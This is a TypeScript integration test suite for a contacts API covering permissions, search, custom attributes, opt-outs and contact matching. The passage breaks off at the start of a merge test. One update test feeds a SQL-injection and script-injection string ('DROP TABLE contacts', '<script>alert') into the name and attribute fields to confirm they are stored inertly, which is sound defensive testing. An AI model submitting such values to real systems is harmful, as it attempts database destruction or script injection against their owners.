/**
 * Contacts through the HTTP API on the real PostgreSQL and Temporal: visibility, attributes (platform
 * read-only, custom with definitions), VIP, favourites, opt-outs, matching attribute, merge, delete
 * with its audit log, and the streamed CSV export.
 */
import { EntityManager } from '@mikro-orm/postgresql';
import { Client } from 'pg';
import { findOrCreateContact } from '../../src/modules/contacts/find-or-create-contact';
import { eventually, http, signUp, startTestStack, type TestStack } from '../support/test-stack';

interface ContactSummary {
  id: string;
  name: string | null;
  email: string | null;
  phone: string | null;
  vip: boolean;
  spam: boolean;
  favourite: boolean;
}
interface ContactDetail extends ContactSummary {
  identities: { id: string; channelType: string; address: string }[];
  platformAttributes: Record<string, string>;
  attributes: { key: string; label: string; type: string; options: string[]; visible: boolean; value: string | null }[];
  optOuts: { channelType: string; source: string }[];
}
interface Page {
  items: ContactSummary[];
  nextCursor: string | null;
}
interface ErrorBody {
  message: string;
  details?: { field: string; problem: string }[];
}
interface AttributeDef {
  id: string;
  key: string;
  label: string;
  type: string;
  options: string[];
  visible: boolean;
  position: number;
}

let stack: TestStack;
let db: Client;
let admin: { token: string; accountId: string; userId: string };
let agent: { id: string; token: string };
let inboxA: string; // agent is a member
let inboxB: string; // agent is not
let other: { token: string; accountId: string };
let seq = 0;
const uniq = () => `${Date.now().toString(36)}${(++seq).toString(36)}${Math.random().toString(36).slice(2, 6)}`;

const as = <T>(token: string, method: string, path: string, body?: unknown) => http<T>(stack, method, path, body, token);
const asAdmin = <T>(method: string, path: string, body?: unknown) => as<T>(admin.token, method, path, body);
const asAgent = <T>(method: string, path: string, body?: unknown) => as<T>(agent.token, method, path, body);

async function createInbox(token: string, name: string): Promise<string> {
  const res = await as<{ id: string }>(token, 'POST', '/api/v1/inboxes', { name, channelType: 'api' });
  expect(res.status).toBe(201);
  return res.body.id;
}

async function createUser(name: string): Promise<{ id: string; token: string }> {
  const email = `contacts-${uniq()}@example.com`;
  const created = await asAdmin<{ id: string }>('POST', '/api/v1/users', { name, email, password: 'correct horse battery' });
  expect(created.status).toBe(201);
  const login = await http<{ token: string }>(stack, 'POST', '/api/v1/auth/login', { email, password: 'correct horse battery' });
  expect(login.status).toBe(200);
  return { id: created.body.id, token: login.body.token };
}

async function inbound(
  inboxId: string,
  contact: { sourceId: string; name?: string; email?: string; phone?: string },
  token = admin.token,
): Promise<{ conversationId: string; contactId: string; messageId: string }> {
  const res = await as<{ conversationId: string; contactId: string; messageId: string }>(token, 'POST', `/api/v1/inboxes/${inboxId}/inbound-messages`, {
    contact,
    content: `hello from ${contact.sourceId}`,
  });
  if (res.status !== 201) throw new Error(`inbound failed: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body;
}

async function getContact(id: string, token = admin.token): Promise<ContactDetail> {
  const res = await as<ContactDetail>(token, 'GET', `/api/v1/contacts/${id}`);
  expect(res.status).toBe(200);
  return res.body;
}

async function count(sql: string, params: unknown[]): Promise<number> {
  const r = await db.query<{ n: number }>(`select count(*)::int as n from (${sql}) x`, params);
  return r.rows[0].n;
}

async function setMatching(token: string, matchingAttribute: 'email' | 'phone' | null) {
  const res = await as(token, 'PATCH', '/api/v1/account', { settings: { matchingAttribute } });
  expect(res.status).toBe(200);
}

beforeAll(async () => {
  stack = await startTestStack();
  db = new Client({ connectionString: stack.config.database.url });
  await db.connect();
  admin = await signUp(stack, 'Contacts Ltd');
  other = await signUp(stack, 'Other Ltd');
  inboxA = await createInbox(admin.token, 'Contacts A');
  inboxB = await createInbox(admin.token, 'Contacts B');
  agent = await createUser('Agent Smith');
  expect((await asAdmin('PUT', `/api/v1/inboxes/${inboxA}/members/${agent.id}`, { role: 'member' })).status).toBe(200);
}, 120_000);

afterAll(async () => {
  await db?.end();
  await stack?.close();
});

describe('visibility, list and detail', () => {
  test('agents see contacts of their inboxes; others of the account get 403, other accounts 404', async () => {
    const tag = uniq();
    const a = await inbound(inboxA, { sourceId: `vis-a-${tag}`, name: `Vis ${tag} A` });
    const b = await inbound(inboxB, { sourceId: `vis-b-${tag}`, name: `Vis ${tag} B` });

    const agentList = await asAgent<Page>('GET', `/api/v1/contacts?q=${encodeURIComponent(`Vis ${tag}`)}`);
    expect(agentList.status).toBe(200);
    expect(agentList.body.items.map((c) => c.id)).toEqual([a.contactId]);

    const adminList = await asAdmin<Page>('GET', `/api/v1/contacts?q=${encodeURIComponent(`Vis ${tag}`)}`);
    expect(adminList.body.items.map((c) => c.id)).toEqual([b.contactId, a.contactId]); // newest first

    expect((await asAgent('GET', `/api/v1/contacts/${a.contactId}`)).status).toBe(200);
    const denied = await asAgent<ErrorBody>('GET', `/api/v1/contacts/${b.contactId}`);
    expect(denied.status).toBe(403);
    expect(denied.body.message).toBe(`you are not a member of any inbox with a conversation of contact ${b.contactId}`);

    const foreign = await as<ErrorBody>(other.token, 'GET', `/api/v1/contacts/${a.contactId}`);
    expect(foreign.status).toBe(404);
    expect(foreign.body.message).toBe(`contact ${a.contactId} was not found`);
    const foreignList = await as<Page>(other.token, 'GET', `/api/v1/contacts?q=${encodeURIComponent(`Vis ${tag}`)}`);
    expect(foreignList.body.items).toEqual([]);

    const badId = await asAdmin<ErrorBody>('GET', '/api/v1/contacts/not-a-uuid');
    expect(badId.status).toBe(400);
    expect(badId.body.details).toEqual([{ field: 'id', problem: 'must be a UUID' }]);

    // a user with no inbox sees no contacts at all
    const loner = await createUser('Loner');
    expect((await as<Page>(loner.token, 'GET', '/api/v1/contacts')).body).toEqual({ items: [], nextCursor: null });
  });

  test('search by name, email and phone; vip and favourites filters; cursor pagination', async () => {
    const tag = uniq();
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) {
      ids.push(
        (await inbound(inboxA, { sourceId: `page-${tag}-${i}`, name: `Page ${tag} ${i}`, email: `page${i}.${tag}@example.com`, phone: `+4930${tag.length}55${i}99${i}` }))
          .contactId,
      );
    }
    const q = encodeURIComponent(`Page ${tag}`);
    const first = await asAdmin<Page>('GET', `/api/v1/contacts?q=${q}&limit=2`);
    expect(first.status).toBe(200);
    expect(first.body.items.map((c) => c.id)).toEqual([ids[4], ids[3]]);
    expect(first.body.nextCursor).toEqual(expect.any(String));
    const second = await asAdmin<Page>('GET', `/api/v1/contacts?q=${q}&limit=2&cursor=${first.body.nextCursor}`);
    expect(second.body.items.map((c) => c.id)).toEqual([ids[2], ids[1]]);
    const third = await asAdmin<Page>('GET', `/api/v1/contacts?q=${q}&limit=2&cursor=${second.body.nextCursor}`);
    expect(third.body.items.map((c) => c.id)).toEqual([ids[0]]);
    expect(third.body.nextCursor).toBeNull();

    // email (case-insensitive) and phone (also ignoring formatting)
    expect((await asAdmin<Page>('GET', `/api/v1/contacts?q=PAGE2.${tag.toUpperCase()}@`)).body.items.map((c) => c.id)).toEqual([ids[2]]);
    const phone = `+4930${tag.length}553993`;
    expect((await asAdmin<Page>('GET', `/api/v1/contacts?q=${encodeURIComponent(phone)}`)).body.items.map((c) => c.id)).toEqual([ids[3]]);
    // % and _ and ? are literal
    expect((await asAdmin<Page>('GET', `/api/v1/contacts?q=${encodeURIComponent(`Page ${tag} %`)}`)).body.items).toEqual([]);
    expect((await asAdmin<Page>('GET', `/api/v1/contacts?q=${encodeURIComponent(`Page ${tag}?`)}`)).body.items).toEqual([]);

    expect((await asAdmin('PATCH', `/api/v1/contacts/${ids[1]}`, { vip: true })).status).toBe(200);
    expect((await asAdmin<Page>('GET', `/api/v1/contacts?q=${q}&vip=true`)).body.items.map((c) => c.id)).toEqual([ids[1]]);
    expect((await asAdmin<Page>('GET', `/api/v1/contacts?q=${q}&vip=false`)).body.items.map((c) => c.id)).toEqual([ids[4], ids[3], ids[2], ids[0]]);

    expect((await asAgent('PUT', `/api/v1/contacts/${ids[3]}/favourite`)).status).toBe(204);
    const favs = await asAgent<Page>('GET', `/api/v1/contacts?q=${q}&favourites=true`);
    expect(favs.body.items.map((c) => [c.id, c.favourite])).toEqual([[ids[3], true]]);
    // favourites are per user
    expect((await asAdmin<Page>('GET', `/api/v1/contacts?q=${q}&favourites=true`)).body.items).toEqual([]);

    const badCursor = await asAdmin<ErrorBody>('GET', '/api/v1/contacts?cursor=garbage');
    expect(badCursor.status).toBe(400);
    expect(badCursor.body.details).toEqual([{ field: 'cursor', problem: 'is not a cursor returned by this list' }]);
    const badLimit = await asAdmin<ErrorBody>('GET', '/api/v1/contacts?limit=0');
    expect(badLimit.status).toBe(400);
    expect(badLimit.body.details?.[0].field).toBe('limit');
    const badVip = await asAdmin<ErrorBody>('GET', '/api/v1/contacts?vip=maybe');
    expect(badVip.status).toBe(400);
    expect(badVip.body.details?.[0]).toEqual({ field: 'vip', problem: 'vip must be a boolean value' });
  });

  test('detail: identities, platform attributes, custom attributes by position (agents: visible only), vip, spam, opt-outs, favourite', async () => {
    const tag = uniq();
    const defs = [
      { key: `zeta_${tag}`, label: 'Zeta', type: 'text', position: 300 },
      { key: `alpha_${tag}`, label: 'Alpha', type: 'dropdown', options: ['Gold', 'Silver'], position: 100 },
      { key: `secret_${tag}`, label: 'Secret', type: 'text', visible: false, position: 200 },
    ];
    for (const d of defs) expect((await asAdmin('POST', '/api/v1/contact-attributes', d)).status).toBe(201);

    const c = await inbound(inboxA, { sourceId: `detail-${tag}`, name: 'Dora Detail', email: `dora.${tag}@example.com` });
    await db.query(`update contacts set platform_attributes = $1, spam = true where id = $2`, [JSON.stringify({ browser: 'Firefox', city: 'Berlin' }), c.contactId]);
    expect(
      (await asAdmin('PATCH', `/api/v1/contacts/${c.contactId}`, { vip: true, attributes: { [`zeta_${tag}`]: 'z', [`alpha_${tag}`]: 'Gold', [`secret_${tag}`]: 's' } })).status,
    ).toBe(200);
    expect((await asAgent('PUT', `/api/v1/contacts/${c.contactId}/opt-outs/sms`)).status).toBe(204);
    expect((await asAgent('PUT', `/api/v1/contacts/${c.contactId}/favourite`)).status).toBe(204);

    const forAdmin = await getContact(c.contactId);
    const mine = (d: ContactDetail) => d.attributes.filter((a) => a.key.endsWith(tag));
    expect(forAdmin).toMatchObject({
      id: c.contactId,
      name: 'Dora Detail',
      email: `dora.${tag}@example.com`,
      phone: null,
      vip: true,
      spam: true,
      favourite: false,
      platformAttributes: { browser: 'Firefox', city: 'Berlin' },
      optOuts: [{ channelType: 'sms', source: `manual:${agent.id}` }],
    });
    expect(forAdmin.identities.map((i) => [i.channelType, i.address])).toEqual([['api', `detail-${tag}`]]);
    expect(mine(forAdmin)).toEqual([
      { key: `alpha_${tag}`, label: 'Alpha', type: 'dropdown', options: ['Gold', 'Silver'], visible: true, value: 'Gold' },
      { key: `secret_${tag}`, label: 'Secret', type: 'text', options: [], visible: false, value: 's' },
      { key: `zeta_${tag}`, label: 'Zeta', type: 'text', options: [], visible: true, value: 'z' },
    ]);

    const forAgent = await getContact(c.contactId, agent.token);
    expect(forAgent.favourite).toBe(true);
    expect(mine(forAgent).map((a) => [a.key, a.value])).toEqual([
      [`alpha_${tag}`, 'Gold'],
      [`zeta_${tag}`, 'z'],
    ]);
  });
});

describe('updating contacts', () => {
  test('name, email, phone, vip and attribute values; SQL and HTML stored unchanged; platform attributes read-only', async () => {
    const tag = uniq();
    await asAdmin('POST', '/api/v1/contact-attributes', { key: `tier_${tag}`, label: 'Tier', type: 'dropdown', options: ['Gold', 'Silver'] });
    await asAdmin('POST', '/api/v1/contact-attributes', { key: `note_${tag}`, label: 'Note', type: 'text' });
    await asAdmin('POST', '/api/v1/contact-attributes', { key: `hidden_${tag}`, label: 'Hidden', type: 'text', visible: false });
    const c = await inbound(inboxA, { sourceId: `upd-${tag}`, name: 'Before' });
    const url = `/api/v1/contacts/${c.contactId}`;

    const nasty = `Robert'); DROP TABLE contacts;-- <script>alert("x")</script> ?`;
    const res = await asAgent<ContactDetail>('PATCH', url, {
      name: nasty,
      email: `after.${tag}@example.com`,
      phone: '+49 30 123456',
      vip: true,
      attributes: { [`tier_${tag}`]: 'Silver', [`note_${tag}`]: '<b>bold</b> & 1=1; --' },
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ name: nasty, email: `after.${tag}@example.com`, phone: '+49 30 123456', vip: true });
    const detail = await getContact(c.contactId);
    expect(detail.name).toBe(nasty);
    const found = await asAdmin<Page>('GET', `/api/v1/contacts?q=${encodeURIComponent(`'); DROP TABLE contacts;-- <script>alert("x")</script> ?`)}`);
    expect(found.status).toBe(200);
    expect(found.body.items.map((x) => x.id)).toContain(c.contactId);
    expect(detail.attributes.filter((a) => a.key.endsWith(tag)).map((a) => [a.key, a.value])).toEqual([
      [`tier_${tag}`, 'Silver'],
      [`note_${tag}`, '<b>bold</b> & 1=1; --'],
      [`hidden_${tag}`, null],
    ]);

    // null removes a value, keys not listed keep theirs
    await asAdmin('PATCH', url, { attributes: { [`note_${tag}`]: null } });
    const stored = await db.query<{ attributes: Record<string, string> }>('select attributes from contacts where id = $1', [c.contactId]);
    expect(stored.rows[0].attributes).toEqual({ [`tier_${tag}`]: 'Silver' });

    const platform = await asAdmin<ErrorBody>('PATCH', url, { platformAttributes: { browser: 'Evil' } });
    expect(platform.status).toBe(400);
    expect(platform.body.details).toEqual([{ field: 'platformAttributes', problem: 'property platformAttributes should not exist' }]);

    const unknown = await asAdmin<ErrorBody>('PATCH', url, { attributes: { nope_key: 'x' } });
    expect(unknown.status).toBe(400);
    expect(unknown.body.details?.[0].field).toBe('attributes.nope_key');
    expect(unknown.body.message).toMatch(/^attributes\.nope_key: is not a custom attribute of this account/);

    const badOption = await asAdmin<ErrorBody>('PATCH', url, { attributes: { [`tier_${tag}`]: 'Bronze' } });
    expect(badOption.status).toBe(400);
    expect(badOption.body.details).toEqual([{ field: `attributes.tier_${tag}`, problem: 'must be one of: Gold, Silver' }]);

    const tooLong = await asAdmin<ErrorBody>('PATCH', url, { attributes: { [`note_${tag}`]: 'x'.repeat(1001) } });
    expect(tooLong.status).toBe(400);
    expect(tooLong.body.details).toEqual([{ field: `attributes.note_${tag}`, problem: 'must be at most 1000 characters' }]);
    expect((await asAdmin('PATCH', url, { attributes: { [`note_${tag}`]: 'x'.repeat(1000) } })).status).toBe(200);

    const notString = await asAdmin<ErrorBody>('PATCH', url, { attributes: { [`note_${tag}`]: 42 } });
    expect(notString.body.details).toEqual([{ field: `attributes.note_${tag}`, problem: 'must be a string or null' }]);

    // agents cannot write attributes hidden from them
    const hidden = await asAgent<ErrorBody>('PATCH', url, { attributes: { [`hidden_${tag}`]: 'x' } });
    expect(hidden.status).toBe(400);
    expect(hidden.body.details?.[0].field).toBe(`attributes.hidden_${tag}`);
    expect((await asAdmin('PATCH', url, { attributes: { [`hidden_${tag}`]: 'x' } })).status).toBe(200);

    const badEmail = await asAdmin<ErrorBody>('PATCH', url, { email: 'not-an-email' });
    expect(badEmail.status).toBe(400);
    expect(badEmail.body.details?.[0]).toEqual({ field: 'email', problem: 'email must be an email' });
    const badVip = await asAdmin<ErrorBody>('PATCH', url, { vip: 'yes' });
    expect(badVip.body.details?.[0]).toEqual({ field: 'vip', problem: 'vip must be a boolean value' });

    // nothing of the rejected requests was stored
    const after = await getContact(c.contactId);
    expect(after.platformAttributes).toEqual({});
    expect(after.email).toBe(`after.${tag}@example.com`);
  });

  test("an edit does not wait for other transactions' foreign-key checks on the contact (they deadlocked with routing)", async () => {
    const c = await inbound(inboxA, { sourceId: `fk-${uniq()}`, name: 'Key shared' });
    // What PostgreSQL takes for an insert referencing the contact (a conversation routed, an event
    // recorded), held open: the edit's own lock must not conflict with it.
    const other = new Client({ connectionString: stack.config.database.url });
    await other.connect();
    try {
      await other.query('begin');
      await other.query('select 1 from contacts where id = $1 for key share', [c.contactId]);
      const edit = asAdmin<{ vip: boolean }>('PATCH', `/api/v1/contacts/${c.contactId}`, { vip: true, tags: ['key-share'] });
      const outcome = await Promise.race([edit.then((r) => r.status), new Promise<string>((r) => setTimeout(() => r('still waiting after 5 s'), 5_000))]);
      expect(outcome).toBe(200);
      await other.query('commit');
    } finally {
      await other.end();
    }
    expect((await getContact(c.contactId)).vip).toBe(true);
  });

  test('agents cannot change contacts they do not see', async () => {
    const c = await inbound(inboxB, { sourceId: `hidden-upd-${uniq()}`, name: 'Hidden' });
    const res = await asAgent<ErrorBody>('PATCH', `/api/v1/contacts/${c.contactId}`, { vip: true });
    expect(res.status).toBe(403);
    expect(res.body.message).toMatch(/not a member/);
    expect((await getContact(c.contactId)).vip).toBe(false);
  });
});

describe('custom attribute definitions', () => {
  test('admins create, change, reorder and delete; everyone reads; keys unique and snake_case', async () => {
    // a fresh account, so positions and lists are exact
    const acc = await signUp(stack, 'Attributes GmbH');
    const t = acc.token;
    const created = await as<AttributeDef>(t, 'POST', '/api/v1/contact-attributes', { key: 'customer_tier', label: 'Customer tier', type: 'dropdown', options: ['Gold', 'Silver'] });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ key: 'customer_tier', label: 'Customer tier', type: 'dropdown', options: ['Gold', 'Silver'], visible: true, position: 0 });
    const note = await as<AttributeDef>(t, 'POST', '/api/v1/contact-attributes', { key: 'note', label: 'Note', type: 'text' });
    expect(note.body.position).toBe(1);
    const internal = await as<AttributeDef>(t, 'POST', '/api/v1/contact-attributes', { key: 'internal_score', label: 'Score', type: 'text', visible: false });
    expect(internal.body.position).toBe(2);

    const dup = await as<ErrorBody>(t, 'POST', '/api/v1/contact-attributes', { key: 'note', label: 'Again', type: 'text' });
    expect(dup.status).toBe(409);
    expect(dup.body).toMatchObject({ message: 'key: a contact attribute "note" already exists', details: [{ field: 'key', problem: 'already exists' }] });
    // another account may use the same key
    expect((await as(other.token, 'POST', '/api/v1/contact-attributes', { key: 'note', label: 'Note', type: 'text' })).status).toBe(201);

    const camel = await as<ErrorBody>(t, 'POST', '/api/v1/contact-attributes', { key: 'CustomerTier', label: 'x', type: 'text' });
    expect(camel.status).toBe(400);
    expect(camel.body.details).toEqual([{ field: 'key', problem: 'must be snake_case: lower-case letters, digits and single underscores, starting with a letter' }]);
    const noOptions = await as<ErrorBody>(t, 'POST', '/api/v1/contact-attributes', { key: 'level', label: 'Level', type: 'dropdown' });
    expect(noOptions.status).toBe(400);
    expect(noOptions.body.details).toEqual([{ field: 'options', problem: 'a dropdown needs at least one option' }]);
    const emptyOptions = await as<ErrorBody>(t, 'POST', '/api/v1/contact-attributes', { key: 'level', label: 'Level', type: 'dropdown', options: [] });
    expect(emptyOptions.body.details).toEqual([{ field: 'options', problem: 'a dropdown needs at least one option' }]);
    const textOptions = await as<ErrorBody>(t, 'POST', '/api/v1/contact-attributes', { key: 'level', label: 'Level', type: 'text', options: ['a'] });
    expect(textOptions.body.details).toEqual([{ field: 'options', problem: 'only dropdown attributes have options' }]);
    const badType = await as<ErrorBody>(t, 'POST', '/api/v1/contact-attributes', { key: 'level', label: 'Level', type: 'number' });
    expect(badType.status).toBe(400);
    expect(badType.body.details?.[0].field).toBe('type');

    // a user of the account with no role: reads the visible ones, changes nothing
    const email = `attr-agent-${uniq()}@example.com`;
    const u = await as<{ id: string }>(t, 'POST', '/api/v1/users', { name: 'Reader', email, password: 'correct horse battery' });
    expect(u.status).toBe(201);
    const readerToken = (await http<{ token: string }>(stack, 'POST', '/api/v1/auth/login', { email, password: 'correct horse battery' })).body.token;
    const seen = await as<AttributeDef[]>(readerToken, 'GET', '/api/v1/contact-attributes');
    expect(seen.status).toBe(200);
    expect(seen.body.map((d) => d.key)).toEqual(['customer_tier', 'note']);
    const forbidden = await as<ErrorBody>(readerToken, 'POST', '/api/v1/contact-attributes', { key: 'x_y', label: 'x', type: 'text' });
    expect(forbidden.status).toBe(403);
    expect(forbidden.body.message).toBe('creating contact attributes needs the account administrator role');
    expect((await as(readerToken, 'PATCH', `/api/v1/contact-attributes/${note.body.id}`, { label: 'x' })).status).toBe(403);
    expect((await as(readerToken, 'DELETE', `/api/v1/contact-attributes/${note.body.id}`)).status).toBe(403);
    expect((await as(readerToken, 'PUT', '/api/v1/contact-attributes/order', { ids: [note.body.id] })).status).toBe(403);
    expect((await as(other.token, 'PATCH', `/api/v1/contact-attributes/${note.body.id}`, { label: 'x' })).status).toBe(404);

    // change label, options, visibility
    const changed = await as<AttributeDef>(t, 'PATCH', `/api/v1/contact-attributes/${created.body.id}`, { label: 'Tier', options: ['Gold', 'Silver', 'Bronze'], visible: false });
    expect(changed.status).toBe(200);
    expect(changed.body).toMatchObject({ label: 'Tier', options: ['Gold', 'Silver', 'Bronze'], visible: false });
    const noOpts = await as<ErrorBody>(t, 'PATCH', `/api/v1/contact-attributes/${created.body.id}`, { options: [] });
    expect(noOpts.body.details).toEqual([{ field: 'options', problem: 'a dropdown needs at least one option' }]);
    expect((await as<AttributeDef[]>(readerToken, 'GET', '/api/v1/contact-attributes')).body.map((d) => d.key)).toEqual(['note']);

    // reorder: listed first, the rest after in their order
    const reordered = await as<AttributeDef[]>(t, 'PUT', '/api/v1/contact-attributes/order', { ids: [internal.body.id, note.body.id] });
    expect(reordered.status).toBe(200);
    expect(reordered.body.map((d) => [d.key, d.position])).toEqual([
      ['internal_score', 0],
      ['note', 1],
      ['customer_tier', 2],
    ]);
    expect((await as<AttributeDef[]>(t, 'GET', '/api/v1/contact-attributes')).body.map((d) => d.key)).toEqual(['internal_score', 'note', 'customer_tier']);
    const twice = await as<ErrorBody>(t, 'PUT', '/api/v1/contact-attributes/order', { ids: [note.body.id, note.body.id] });
    expect(twice.status).toBe(400);
    expect(twice.body.details?.[0].field).toBe('ids[1]');
    const stranger = '00000000-0000-4000-8000-000000000000';
    const unknownId = await as<ErrorBody>(t, 'PUT', '/api/v1/contact-attributes/order', { ids: [stranger] });
    expect(unknownId.status).toBe(404);
    expect(unknownId.body.message).toBe(`ids[0]: contact attribute ${stranger} was not found`);
    // PATCH position moves one
    expect((await as<AttributeDef>(t, 'PATCH', `/api/v1/contact-attributes/${created.body.id}`, { position: 0 })).body.position).toBe(0);

    // delete removes the definition and its values
    const inbox = await createInbox(t, 'Attr inbox');
    const c = (await as<{ contactId: string }>(t, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, { contact: { sourceId: 'attr-c' }, content: 'hi' })).body.contactId;
    expect((await as(t, 'PATCH', `/api/v1/contacts/${c}`, { attributes: { note: 'keep?', customer_tier: 'Gold' } })).status).toBe(200);
    expect((await as(t, 'DELETE', `/api/v1/contact-attributes/${note.body.id}`)).status).toBe(204);
    const stored = await db.query<{ attributes: Record<string, string> }>('select attributes from contacts where id = $1', [c]);
    expect(stored.rows[0].attributes).toEqual({ customer_tier: 'Gold' });
    expect((await as<AttributeDef[]>(t, 'GET', '/api/v1/contact-attributes')).body.map((d) => d.key)).toEqual(['customer_tier', 'internal_score']);
    expect((await as(t, 'DELETE', `/api/v1/contact-attributes/${note.body.id}`)).status).toBe(404);
  });
});

describe('VIP, favourites, opt-outs', () => {
  test('vip flag; favourites per user; manual unsubscribe and resubscribe per channel', async () => {
    const c = await inbound(inboxA, { sourceId: `flags-${uniq()}`, name: 'Flag' });
    const url = `/api/v1/contacts/${c.contactId}`;
    expect((await asAgent<ContactDetail>('PATCH', url, { vip: true })).body.vip).toBe(true);
    expect((await getContact(c.contactId)).vip).toBe(true);
    expect((await asAgent<ContactDetail>('PATCH', url, { vip: false })).body.vip).toBe(false);

    expect((await asAgent('PUT', `${url}/favourite`)).status).toBe(204);
    expect((await asAgent('PUT', `${url}/favourite`)).status).toBe(204); // idempotent
    expect((await getContact(c.contactId, agent.token)).favourite).toBe(true);
    expect((await getContact(c.contactId)).favourite).toBe(false);
    expect(await count('select 1 from contact_favourites where contact_id = $1', [c.contactId])).toBe(1);
    expect((await asAgent('DELETE', `${url}/favourite`)).status).toBe(204);
    expect((await getContact(c.contactId, agent.token)).favourite).toBe(false);

    expect((await asAgent('PUT', `${url}/opt-outs/sms`)).status).toBe(204);
    expect((await asAdmin('PUT', `${url}/opt-outs/email`)).status).toBe(204);
    expect((await asAdmin('PUT', `${url}/opt-outs/sms`)).status).toBe(204); // already opted out: the first record stays
    expect((await getContact(c.contactId)).optOuts).toEqual([
      { channelType: 'email', source: `manual:${admin.userId}`, createdAt: expect.any(String) },
      { channelType: 'sms', source: `manual:${agent.id}`, createdAt: expect.any(String) },
    ]);
    expect((await asAgent('DELETE', `${url}/opt-outs/sms`)).status).toBe(204);
    expect((await getContact(c.contactId)).optOuts.map((o) => o.channelType)).toEqual(['email']);
    // The optedOut filter of the list (and the export, which shares the filters).
    const flagQ = encodeURIComponent('Flag');
    const other = await inbound(inboxA, { sourceId: `flags-other-${uniq()}`, name: 'Flag other' });
    const listed = async (optedOut: boolean) =>
      (await asAdmin<Page>('GET', `/api/v1/contacts?q=${flagQ}&optedOut=${optedOut}&limit=100`)).body.items.map((i) => i.id);
    expect(await listed(true)).toContain(c.contactId);
    expect(await listed(true)).not.toContain(other.contactId);
    expect(await listed(false)).toContain(other.contactId);
    expect(await listed(false)).not.toContain(c.contactId);
    const badFilter = await asAdmin<ErrorBody>('GET', '/api/v1/contacts?optedOut=maybe');
    expect(badFilter.status).toBe(400);
    expect(badFilter.body.details).toEqual([expect.objectContaining({ field: 'optedOut' })]);

    const bad = await asAgent<ErrorBody>('PUT', `${url}/opt-outs/fax`);
    expect(bad.status).toBe(400);
    expect(bad.body.details).toEqual([{ field: 'channelType', problem: 'must be one of: api, email, sms' }]);

    const hidden = await inbound(inboxB, { sourceId: `flags-hidden-${uniq()}` });
    expect((await asAgent<ErrorBody>('PUT', `/api/v1/contacts/${hidden.contactId}/favourite`)).status).toBe(403);
    expect((await asAgent<ErrorBody>('PUT', `/api/v1/contacts/${hidden.contactId}/opt-outs/sms`)).status).toBe(403);
  });
});

describe('matching attribute', () => {
  test("'email': a new sender with a known email becomes a new identity of that contact (case-insensitive)", async () => {
    const acc = await signUp(stack, 'Matching email');
    const inbox = await createInbox(acc.token, 'M');
    const send = (contact: object) => as<{ contactId: string }>(acc.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, { contact, content: 'hi' });
    const first = await send({ sourceId: 'chat-1', name: 'Jane', email: 'Jane.Doe@Example.com' });
    const second = await send({ sourceId: 'chat-2', email: 'jane.doe@example.COM', phone: '+49 151 1111' });
    expect(second.body.contactId).toBe(first.body.contactId);
    const detail = await as<ContactDetail>(acc.token, 'GET', `/api/v1/contacts/${first.body.contactId}`);
    expect(detail.body.identities.map((i) => i.address)).toEqual(['chat-1', 'chat-2']);
    expect(detail.body).toMatchObject({ name: 'Jane', email: 'Jane.Doe@Example.com', phone: '+49 151 1111' }); // empty phone filled
    // a different email: a different contact; no email: a different contact
    expect((await send({ sourceId: 'chat-3', email: 'john@example.com' })).body.contactId).not.toBe(first.body.contactId);
    expect((await send({ sourceId: 'chat-4' })).body.contactId).not.toBe(first.body.contactId);

    // the inbound path of another channel (email inbox) finds the same person by address
    const em = stack.api.get(EntityManager).fork();
    const viaEmail = await em.transactional((tx) => findOrCreateContact(tx, acc.accountId, 'email', { sourceId: 'JANE.DOE@example.com' }));
    expect(viaEmail.id).toBe(first.body.contactId);
    const identities = await db.query('select channel_type, address from contact_identities where contact_id = $1 order by created_at', [first.body.contactId]);
    expect(identities.rows).toEqual([
      { channel_type: 'api', address: 'chat-1' },
      { channel_type: 'api', address: 'chat-2' },
      { channel_type: 'email', address: 'JANE.DOE@example.com' },
    ]);
    // and finds it again by identity
    const again = await stack.api.get(EntityManager).fork().transactional((tx) => findOrCreateContact(tx, acc.accountId, 'email', { sourceId: 'JANE.DOE@example.com' }));
    expect(again.id).toBe(first.body.contactId);
    expect(await count('select 1 from contacts where account_id = $1', [acc.accountId])).toBe(3);
  });

  test("'phone' matches numbers ignoring formatting; null turns matching off", async () => {
    const acc = await signUp(stack, 'Matching phone');
    const inbox = await createInbox(acc.token, 'P');
    const send = (contact: object) => as<{ contactId: string }>(acc.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, { contact, content: 'hi' });
    await setMatching(acc.token, 'phone');
    const a = await send({ sourceId: 'p-1', phone: '+49 151 234-567', email: 'a@example.com' });
    const b = await send({ sourceId: 'p-2', phone: '+49151234567', email: 'b@example.com' });
    expect(b.body.contactId).toBe(a.body.contactId);
    // email is not the matching attribute now
    expect((await send({ sourceId: 'p-3', email: 'a@example.com' })).body.contactId).not.toBe(a.body.contactId);
    const sms = await stack.api.get(EntityManager).fork().transactional((tx) => findOrCreateContact(tx, acc.accountId, 'sms', { sourceId: '+49 (151) 234567' }));
    expect(sms.id).toBe(a.body.contactId);

    await setMatching(acc.token, null);
    expect((await send({ sourceId: 'p-4', phone: '+49151234567', email: 'a@example.com' })).body.contactId).not.toBe(a.body.contactId);
  });

  test('concurrent first messages of one person make one contact', async () => {
    const acc = await signUp(stack, 'Matching race');
    const inbox1 = await createInbox(acc.token, 'R1');
    const inbox2 = await createInbox(acc.token, 'R2');
    const send = (inbox: string, contact: object) =>
      as<{ contactId: string }>(acc.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, { contact, content: 'hi' });
    // same identity in two inboxes at once, and different identities with the same email at once
    const results = await Promise.all([
      send(inbox1, { sourceId: 'race-1', email: 'race@example.com' }),
      send(inbox2, { sourceId: 'race-1', email: 'race@example.com' }),
      send(inbox1, { sourceId: 'race-2', email: 'RACE@example.com' }),
      send(inbox2, { sourceId: 'race-3', email: 'race@EXAMPLE.com' }),
    ]);
    expect(results.map((r) => r.status)).toEqual([201, 201, 201, 201]);
    expect(new Set(results.map((r) => r.body.contactId)).size).toBe(1);
    expect(await count('select 1 from contacts where account_id = $1', [acc.accountId])).toBe(1);
    expect(await count('select 1 from contact_identities where account_id = $1', [acc.accountId])).toBe(3);
  });
});

describe('merge', () => {
  test('moves identities, conversations, favourites and opt-outs; survivor wins conflicts; the other is deleted', async () => {
    const tag = uniq();
